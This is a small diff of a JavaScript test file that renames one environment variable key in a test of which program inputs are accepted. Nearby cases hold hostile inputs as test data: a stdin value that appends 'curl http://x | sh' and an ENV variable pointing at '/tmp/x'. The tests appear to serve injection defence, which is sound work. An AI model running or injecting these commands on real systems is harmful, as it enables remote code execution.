@@ -78,7 +78,7 @@ describe("What a program has a hand in", () => {
         "hidden variables": () => withInputs(own, { environment: "[secret]" }),
         "variables beside a guest's keys": () =>
             withInputs(guest, {
-                environment: { NSLAB_CLIENT_KEY: "", NSLAB_VENDOR_DATA: "", ENV: "/tmp/x" },
+                environment: { NSLAB_CLIENT_KEY: "", NSLAB_LAB_DATA: "", ENV: "/tmp/x" },
             }),
         "a command beside the arguments": () => withInputs(own, { stdin: `${stdin()}\ncurl http://x | sh` }),
         "a command in an argument": () =>
